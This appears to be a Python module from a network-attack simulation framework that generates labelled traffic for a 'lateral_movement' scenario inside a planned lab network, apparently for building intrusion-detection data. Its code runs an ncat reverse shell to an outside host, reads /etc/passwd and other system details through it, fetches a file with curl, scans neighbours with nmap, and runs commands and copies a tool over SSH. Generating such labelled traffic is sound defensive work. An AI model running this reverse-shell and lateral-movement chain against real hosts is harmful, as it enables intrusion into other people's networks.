"""After a foothold: an insider's host is steered from outside and goes on to its neighbours."""
from ..benign import CURL, SSH
from .job import Missed, attack


@attack("infiltration", "ncat", "ssh", "nmap")
def lateral_movement(job):
    """A reverse shell from a desktop; through it, a tool is fetched, neighbours looked at, one of them entered by SSH."""
    from ..services import KEY
    rng = job.rng
    foothold = rng.choice(job.plan.by_role("client"))
    outside = [h for h in job.plan.by_role("outside") if "web" in h.services]
    doors = [h for h in job.plan.offering("ssh") if h.role != "outside" and h is not foothold]
    if not outside or not doors:
        raise Missed("nowhere to go")
    master, door = rng.choice(outside), rng.choice(doors)
    port = rng.choice((4444, 443 if master.services["tls"] != 443 else 8444, 5555))
    user = rng.choice(list(job.services.users))
    orders = job.file("".join(f"{line}\n" for line in ("id", "uname -a", "cat /etc/passwd", "ls -la /", "ps aux", "ip addr")))
    pace = rng.uniform(0.3, 2)
    typed = f"while read -r line; do sleep {pace:.1f}; echo \"$line\"; done <{orders}; sleep {rng.uniform(1, 6):.1f}"
    listener = job.start(master, ["sh", "-c", f"({typed}) | ncat -4 -l -p {port} >/dev/null"])
    job.sleep(0.5)
    try:
        with job.claim(foothold, master, name="reverse_shell"):
            shell = job.start(foothold, ["ncat", "-4", "-w", "20", "-e", "/bin/sh", master.v4, port])
            job.sleep(rng.uniform(1, 3))
            job.run(foothold, [*CURL, f"http://{master.v4}:{master.services['web']}{rng.choice(job.services.pages)[0]}"], 12)
            near = [h for h in job.plan.by_role("client", "server") if h is not foothold and h is not door]
            look = rng.sample(near, min(3, len(near)))
            with job.claim(foothold, [door, *look], name="lateral_movement"):
                job.run(foothold, ["nmap", "-n", "-Pn", "--send-ip", "--disable-arp-ping", "-sT", "-T3", "--max-retries", "1", "-p",
                                   f"22,80,139,445,3389,{door.services['ssh']}", *[h.v4 for h in (door, *look)]], 15)
                there = ["-o", "BatchMode=yes", "-i", KEY]
                for _ in range(rng.randint(1, 4)):
                    job.run(foothold, ["ssh", *SSH, *there, "-p", door.services["ssh"], f"{user}@{door.v4}", rng.choice(("id; ls -la", "cat file0.bin | head -c 60000", "ps aux"))], 8)
                    job.sleep(rng.uniform(0.2, 2))
                job.run(foothold, ["scp", "-q", *SSH, *there, "-P", door.services["ssh"], "/usr/bin/nmap", f"{user}@{door.v4}:tool"], 12)
            job.end(shell)
    finally:
        job.end(listener)
